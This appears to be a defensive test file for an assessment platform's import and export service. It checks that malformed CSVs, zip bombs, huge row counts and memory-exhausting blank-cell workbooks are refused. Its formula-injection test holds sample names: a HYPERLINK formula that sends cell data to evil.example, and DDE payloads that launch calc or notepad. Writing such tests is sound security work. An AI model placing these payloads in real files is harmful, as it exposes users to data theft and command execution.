import { randomBytes } from 'node:crypto';
import ExcelJS from 'exceljs';
import { Types } from 'mongoose';
import { MAX_IMPORT_ROWS } from '@assess/shared';
import { DRAFT_SAVE_LIMIT_PER_MINUTE } from '../../bff/src/modules/attempts/service';
import { startTestBff, withDatabase, type TestBff } from '../helpers/bff';
import { startBffProcess, type BffProcess } from '../helpers/bffProcess';
import { apiClient, type ApiClient } from '../helpers/http';
import { createCampaign, createEnterprises, enterpriseRow, importCsv as csvOf, importHeader as header, login, type TestEnterprise, loginStaff } from '../helpers/factories';
import { blankCellsXlsx, makeXlsx, sheetXml } from '../../bff/src/modules/workbooks/testing/zip';

const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';

/** What a spreadsheet would evaluate: a text starting with one of these is a formula or a DDE call. */
const FORMULA_START = /^[=+\-@\t\r]/;

describe('hostile files: imports and exports', () => {
  let bff: TestBff;
  let api: ApiClient;
  let token: string;

  beforeAll(async () => {
    bff = await startTestBff();
    api = apiClient(bff.url);
    await bff.services.staff.upsert({ username: 'files_nat', displayName: '国家局', password: 'Files2026national', role: 'national' });
    token = await loginStaff(api, 'files_nat', 'Files2026national');
  });
  afterAll(async () => {
    await bff.stop();
  });

  async function importing(body: Buffer | string, type: string) {
    const campaign = await createCampaign(bff.services);
    const response = await api.raw('POST', `/api/admin/campaigns/${String(campaign._id)}/imports?wait=true`, { raw: body, token, headers: { 'content-type': type } });
    const stored = await bff.services.models.enterprises.countDocuments({ campaignId: campaign._id });
    return { response, stored };
  }

  it('When a CSV is malformed (unclosed quote, a 70 KB line, binary garbage, no header), then 400 FILE_INVALID with a Chinese reason and nothing imported', async () => {
    const good = enterpriseRow();
    const files = [
      `${csvOf([good])}\n"${'x'.repeat(20)},unclosed`,
      `${header.join(',')}\n${'y'.repeat(70 * 1024)}`,
      Buffer.from(Array.from({ length: 4096 }, (_, i) => (i * 7919) % 256)),
      'just,some,words\n1,2,3',
    ];
    for (const file of files) {
      const { response, stored } = await importing(file, 'text/csv');
      expect({ status: response.status, code: response.body.code }).toEqual({ status: 400, code: 'FILE_INVALID' });
      expect(response.body.message).toMatch(/[\u4e00-\u9fa5]/);
      expect(stored).toBe(0);
    }
  }, 60_000);

  it('When an XLSX is a zip bomb (honest or lying about its size) or not a zip at all, then it is refused before inflating, nothing imported, and the server answers', async () => {
    const bomb = Buffer.alloc(120 * 1024 * 1024, 0x20); // 120 MB of spaces: ~120 KB deflated
    const files = [makeXlsx(bomb), makeXlsx(bomb, { declaredSize: 2_000 }), Buffer.from('PK\u0003\u0004 not really a zip'), Buffer.from('<html>')];
    for (const file of files) {
      const started = Date.now();
      const { response, stored } = await importing(file, XLSX);
      expect(response.status).toBeGreaterThanOrEqual(400);
      expect(response.status).toBeLessThan(500);
      expect(['FILE_INVALID', 'FILE_TOO_LARGE']).toContain(response.body.code);
      expect(stored).toBe(0);
      expect(Date.now() - started).toBeLessThan(10_000);
    }
    expect((await fetch(`${bff.url}/healthz`)).status).toBe(200);
  }, 60_000);

  it(`When a CSV or an XLSX has 100,000 rows, then 413 TOO_MANY_ROWS saying how many (limit ${MAX_IMPORT_ROWS}), and not one row is imported`, async () => {
    const row = csvOf([enterpriseRow()]).split('\n')[1]!;
    const csv = `${header.join(',')}\n${Array.from({ length: 100_000 }, () => row).join('\n')}`;
    const fromCsv = await importing(csv, 'text/csv');
    expect({ status: fromCsv.response.status, code: fromCsv.response.body.code, rows: fromCsv.response.body.details?.rows }).toEqual({ status: 413, code: 'TOO_MANY_ROWS', rows: 100_000 });
    expect(fromCsv.response.body.message).toContain('100000');
    expect(fromCsv.stored).toBe(0);
    const cells = row.split(',');
    const xlsx = makeXlsx(sheetXml([header, ...Array.from({ length: 100_000 }, () => cells)]));
    const fromXlsx = await importing(xlsx, XLSX);
    expect({ status: fromXlsx.response.status, code: fromXlsx.response.body.code }).toEqual({ status: 413, code: 'TOO_MANY_ROWS' });
    expect(fromXlsx.stored).toBe(0);
  }, 60_000);

  it('When enterprise names start with =, +, -, @ (formula injection), then the bureau export and the key sheet show them as text, never as formulas', async () => {
    const campaign = await createCampaign(bff.services);
    const names = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")有限公司', '+1+cmd|\' /C calc\'!A0有限公司', '-2+3+cmd|\' /C notepad\'!A0公司', '@SUM(1+1)*cmd|\' /C calc\'!A0公司'];
    await createEnterprises(bff.services, campaign._id, names.map((name) => enterpriseRow({ name })));
    const exports = [
      await api.get(`/api/dashboard/enterprises.xlsx?campaignId=${String(campaign._id)}&pageSize=100`, token),
      await api.post(`/api/admin/campaigns/${String(campaign._id)}/key-sheets`, { regionCode: '440000', reissueAll: true }, token),
    ];
    for (const response of exports) {
      expect(response.status).toBe(200);
      const workbook = new ExcelJS.Workbook();
      await workbook.xlsx.load(response.body);
      const found: string[] = [];
      workbook.eachSheet((sheet) =>
        sheet.eachRow((row) =>
          row.eachCell((cell) => {
            expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
            const text = String(cell.text);
            if (names.some((name) => text.includes(name))) found.push(text);
            if (typeof cell.value === 'string') expect(cell.value).not.toMatch(FORMULA_START);
          }),
        ),
      );
      expect(found).toHaveLength(names.length);
    }
  }, 60_000);
});

/**
 * Issue 13: a 350 KB workbook of 3,000,000 value-less cells passed the census (it counted only
 * values) and took one instance 6–8 s of blocked event loop and 0.3–0.5 GB per parse; three at
 * once exhausted its heap. Measured on a BFF in its own process, so what is measured is the
 * instance — its memory from /proc, its /healthz — and a crash cannot take jest down with it.
 */
describe('hostile files: a small workbook of millions of value-less cells (issue 13)', () => {
  const jwtSecret = randomBytes(32).toString('hex');
  let bff: TestBff;
  let instance: BffProcess;
  let api: ApiClient;
  let staffToken: string;
  let enterprise: TestEnterprise;
  let enterpriseToken: string;
  let campaignId: string;
  const hostile = blankCellsXlsx({ cells: 3_000_000, sheets: 6, padding: 50 * 1024 });

  beforeAll(async () => {
    bff = await startTestBff({ env: { JWT_SECRET: jwtSecret } });
    instance = await startBffProcess({
      MONGODB_URI: withDatabase(process.env.TEST_MONGODB_URI!, bff.dbName),
      REDIS_URL: process.env.TEST_REDIS_URL!,
      REDIS_KEY_PREFIX: bff.config.redis.keyPrefix,
      JWT_SECRET: jwtSecret,
    });
    api = apiClient(instance.url);
    const campaign = await createCampaign(bff.services);
    campaignId = String(campaign._id);
    enterprise = (await createEnterprises(bff.services, campaign._id, [enterpriseRow()]))[0]!;
    enterpriseToken = await login(api, enterprise);
    expect((await api.post('/api/attempts', { clientKey: 'hostile-files-1' }, enterpriseToken)).status).toBe(200);
    await bff.services.staff.upsert({ username: 'files_nat2', displayName: '国家局', password: 'Files2026national', role: 'national' });
    staffToken = await loginStaff(api, 'files_nat2', 'Files2026national');
  }, 120_000);
  afterAll(async () => {
    await instance?.stop();
    await bff?.stop();
  });

  /**
   * Sends `count` uploads at once to the instance while watching it: its resident memory from /proc
   * every 50 ms, and /healthz one call at a time (each call's latency).
   */
  async function watched(count: number, send: () => Promise<Response>) {
    const baseline = instance.rssBytes();
    let peak = baseline;
    const sampler = setInterval(() => (peak = Math.max(peak, instance.rssBytes())), 50);
    let watching = true;
    const health: number[] = [];
    const prober = (async () => {
      while (watching) {
        const started = Date.now();
        const ok = await fetch(`${instance.url}/healthz`).then((r) => r.ok, () => false);
        health.push(ok ? Date.now() - started : Number.POSITIVE_INFINITY);
        await new Promise((r) => setTimeout(r, 100));
      }
    })();
    const started = Date.now();
    const responses = await Promise.all(
      Array.from({ length: count }, async () => {
        const response = await send();
        const body = (await response.json().catch(() => ({}))) as { code?: string; message?: string };
        return { status: response.status, code: body.code, ms: Date.now() - started, retryAfter: response.headers.get('retry-after') };
      }),
    );
    const totalMs = Date.now() - started;
    watching = false;
    await prober;
    clearInterval(sampler);
    peak = Math.max(peak, instance.rssBytes());
    const figures = { totalMs, slowestHealthzMs: Math.max(...health), healthzCalls: health.length, rssGrowthMb: Math.round((peak - baseline) / 1048576), peakRssMb: Math.round(peak / 1048576) };
    // The figures the issue asks for, in the test log: time and memory of the instance.
    console.log(`hostile workbook ×${count}: ${JSON.stringify(figures)} ${JSON.stringify(responses)}`);
    return { responses, ...figures };
  }

  const upload = (path: string, token: string) => () =>
    fetch(`${instance.url}${path}`, { method: 'POST', headers: { authorization: `Bearer ${token}`, 'content-type': XLSX }, body: hostile as unknown as BodyInit });

  it.each([
    ['an enterprise uploads it as its filled questionnaire', () => upload('/api/attempts/current/draft/import', enterpriseToken)()],
    ['the national bureau imports it as an enterprise list', () => upload(`/api/admin/campaigns/${campaignId}/imports?wait=true`, staffToken)()],
  ])('When %s three times at once, then each is refused 422 FILE_TOO_COMPLEX within seconds, /healthz answers within 1 s meanwhile, and the instance grows by less than 200 MB', async (_who, send) => {
    expect(hostile.length).toBeGreaterThan(350 * 1024);
    expect(hostile.length).toBeLessThan(450 * 1024);
    const run = await watched(3, send);
    expect(run.responses.map((r) => ({ status: r.status, code: r.code }))).toEqual(Array.from({ length: 3 }, () => ({ status: 422, code: 'FILE_TOO_COMPLEX' })));
    expect(run.responses.every((r) => r.ms < 5_000)).toBe(true);
    expect(run.slowestHealthzMs).toBeLessThan(1_000);
    expect(run.rssGrowthMb).toBeLessThan(200);
    expect(instance.child.exitCode).toBeNull();
    // Nothing imported: the campaign still holds its one enterprise.
    expect(await bff.services.models.enterprises.countDocuments({ campaignId: new Types.ObjectId(campaignId) })).toBe(1);
  }, 120_000);

  it('When more uploads arrive than the instance parses at once, then two parse, a few wait their turn, the rest get 503 UPLOADS_BUSY with Retry-After — never a crash', async () => {
    // Within every bound (1.4 million cells, under the import's 1.5 million), so each takes seconds to stream.
    const heavy = blankCellsXlsx({ cells: 1_400_000, sheets: 3 });
    const send = () => fetch(`${instance.url}/api/admin/campaigns/${campaignId}/imports?wait=true`, { method: 'POST', headers: { authorization: `Bearer ${staffToken}`, 'content-type': XLSX }, body: heavy as unknown as BodyInit });
    const run = await watched(12, send);
    const busy = run.responses.filter((r) => r.code === 'UPLOADS_BUSY');
    const parsed = run.responses.filter((r) => r.code !== 'UPLOADS_BUSY');
    // Parsed to the end: no sheet with our header.
    expect(parsed.map((r) => ({ status: r.status, code: r.code }))).toEqual(parsed.map(() => ({ status: 400, code: 'FILE_INVALID' })));
    expect(parsed.length).toBeGreaterThanOrEqual(2);
    // 2 parsing + 8 waiting: at least the 2 beyond are refused at once.
    expect(busy.length).toBeGreaterThanOrEqual(2);
    for (const refused of busy) expect({ status: refused.status, retryAfter: refused.retryAfter }).toEqual({ status: 503, retryAfter: '5' });
    // Two real parses of seconds each are running here (the hostile file above is refused in ms).
    expect(run.slowestHealthzMs).toBeLessThan(2_000);
    expect(run.rssGrowthMb).toBeLessThan(300);
    expect(instance.child.exitCode).toBeNull();
  }, 120_000);

  it('When an enterprise uploads workbooks, then each counts as a draft save before it is parsed — a blank one, a hostile one — and past the limit none is parsed', async () => {
    const counted = async () => (await bff.services.limiter.peek(`draft:${enterprise.id}`)).count;
    const blank = await api.get('/api/questionnaire.xlsx', enterpriseToken);
    expect(blank.status).toBe(200);
    const send = (bytes: Buffer) => api.raw('POST', '/api/attempts/current/draft/import', { raw: bytes, token: enterpriseToken, headers: { 'content-type': XLSX } });

    const before = await counted();
    const untouched = await send(blank.body as Buffer);
    expect({ status: untouched.status, taken: untouched.body.taken }).toEqual({ status: 200, taken: [] });
    expect(await counted()).toBe(before + 1);
    expect((await send(hostile)).body.code).toBe('FILE_TOO_COMPLEX');
    expect(await counted()).toBe(before + 2);

    // At the limit (120 a minute, saves and uploads together): refused before the file is read.
    while ((await counted()) < DRAFT_SAVE_LIMIT_PER_MINUTE) await bff.services.limiter.hit(`draft:${enterprise.id}`, DRAFT_SAVE_LIMIT_PER_MINUTE, 60);
    const started = Date.now();
    const limited = await send(hostile);
    expect({ status: limited.status, code: limited.body.code, retryAfter: Number(limited.headers.get('retry-after')) > 0 }).toEqual({ status: 429, code: 'RATE_LIMITED', retryAfter: true });
    expect(Date.now() - started).toBeLessThan(2_000);
  }, 60_000);
});
